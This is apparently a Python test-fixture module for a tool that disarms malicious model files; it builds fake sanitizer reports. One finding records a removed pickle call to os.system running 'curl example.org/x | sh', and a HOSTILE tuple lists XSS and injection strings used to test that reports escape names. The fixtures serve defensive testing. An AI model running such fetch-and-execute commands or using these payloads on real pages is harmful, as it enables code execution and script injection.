"""Made-up reports: an ordinary one, one full of hostile names, one of a folder."""

from __future__ import annotations

from typing import Any

from safemodel.reports import (
    DisarmReport,
    FileDigests,
    Finding,
    KeptOpaque,
    KeptTensor,
    LeftBehind,
    Severity,
)

SOURCE = FileDigests(size=98_304, sha256="a1" * 32, blake3="b2" * 32)
RESULT = FileDigests(size=65_543, sha256="c3" * 32, blake3="d4" * 32)
CALL = Finding(
    severity=Severity.DANGER, code="forbidden-global", message="would call os.system",
    name="os.system", arguments="('curl example.org/x | sh')", opcode="REDUCE",
    record="archive/data.pkl", position=187,
)  # fmt: skip
NAMED = Finding(
    severity=Severity.INFO, code="forbidden-global", message="names yolo.Model",
    name="yolo.Model", opcode="GLOBAL", record="archive/data.pkl", position=12_345,
)  # fmt: skip
TWICE = Finding(
    severity=Severity.WARNING, code="container", record="archive/data.pkl",
    message="two records of one name: readers differ in which one they take",
)  # fmt: skip
NOTE = Finding(severity=Severity.INFO, code="note", message="a note", record="a/b")
HOSTILE = (
    "</title><script>document.title='run'</script>",
    "<img src=x onerror=document.title='run'>",
    "\"><iframe src='javascript:0'></iframe>",
    "{{ 7 * 7 }}{% raw %}&lt;b&gt;",
    "\u202egpj.exe\u2066 \x1b[31m\x00\n\r\u2028",
    "\ud800 lone \u3164 blank Z\u0335\u0301\u0302\u0303",
    "</style><style>*{display:none}",
    "javascript:alert(1)",
)
"""Names of a file that would do something to a page that does not escape them."""


def made_up(**members: Any) -> DisarmReport:
    """Return the report of a whole model with a call in it; members may be others."""
    usual: dict[str, Any] = {
        "path": "downloads/detector.pt", "out": "clean/detector.pt",
        "source": SOURCE, "result": RESULT,
        "format": "torch zip archive", "out_format": "pt",
        "removed": (CALL, NAMED), "anomalies": (TWICE,), "notes": (NOTE,),
        "left_behind": (
            LeftBehind(kind="record", name="archive/.cache/run.sh", size=1_204,
                       why="nothing in the file refers to it"),
            LeftBehind(kind="slack", name="", size=31, why="outside of any record"),
        ),
        "tensors": tuple(
            KeptTensor(name=f"model.layers.{at}.{part}", dtype="float32", shape=shape)
            for at in range(6)
            for part, shape in (("weight", (64, 3, 3, 3)), ("bias", (64,)), ("n", ()))
        ),
        "opaque": (KeptOpaque(path="model", name="yolo.Model"),),
        "changed": {"yolo.Model": 1, "set": 2},
        "version": "0.1.0", "policy": "opaque, allowlist of 262 names 0123456789ab",
        "seconds": 0.213,
    }  # fmt: skip
    return DisarmReport(**{**usual, **members})


def hostile() -> DisarmReport:
    """Return a report with a hostile name in every place where a name can be."""
    name = " ".join(HOSTILE)
    call = {"message": name, "name": name, "arguments": name, "record": name}
    finding = Finding(
        severity=Severity.DANGER, code=name, opcode=name, position=3, **call
    )
    one = made_up(
        path=name, out=name, format=name, out_format=name,
        source=FileDigests(size=1, sha256=name, blake3=name),
        removed=(finding,), anomalies=(finding,), notes=(finding,),
        left_behind=(LeftBehind(kind=name, name=name, size=5, why=name),),
        tensors=(
            *(KeptTensor(name=each, dtype=each, shape=(1,)) for each in HOSTILE),
            KeptTensor(name=name, dtype=name, shape=(), scrubbed_bits=12),
        ),
        opaque=(KeptOpaque(path=name, name=name),), changed={name: 7},
        version=name, policy=name,
    )  # fmt: skip
    return DisarmReport(**{**vars(one), "parts": (one,)})


def folder() -> DisarmReport:
    """Return the report of a folder of three files, one of them an archive of two."""
    nothing = FileDigests(size=196_608)
    clean = made_up(
        path="hub/a.safetensors", out="out/a.safetensors", format="safetensors",
        out_format="safetensors", removed=(), anomalies=(), notes=(), left_behind=(),
        opaque=(), changed={},
    )  # fmt: skip
    inner = made_up(
        path="hub/agent.zip/policy.pth", out="out/agent.zip/policy.pth",
        removed=(NAMED,),
    )  # fmt: skip
    agent = made_up(
        path="hub/agent.zip", out="out/agent.zip", format="a zip of models",
        out_format="zip", removed=(), anomalies=(), notes=(), tensors=(), opaque=(),
        changed={}, parts=(inner, inner),
    )  # fmt: skip
    evil = made_up(path="hub/pytorch_model.bin", out="out/pytorch_model.bin")
    return made_up(
        path="hub", out="out", source=nothing, result=nothing, format="a folder",
        out_format="folder", removed=(), anomalies=(), notes=(), tensors=(), opaque=(),
        changed={}, parts=(clean, evil, agent),
        left_behind=(
            LeftBehind(kind="file", name="modeling_x.py", size=12_044, why="code"),
        ),
    )  # fmt: skip
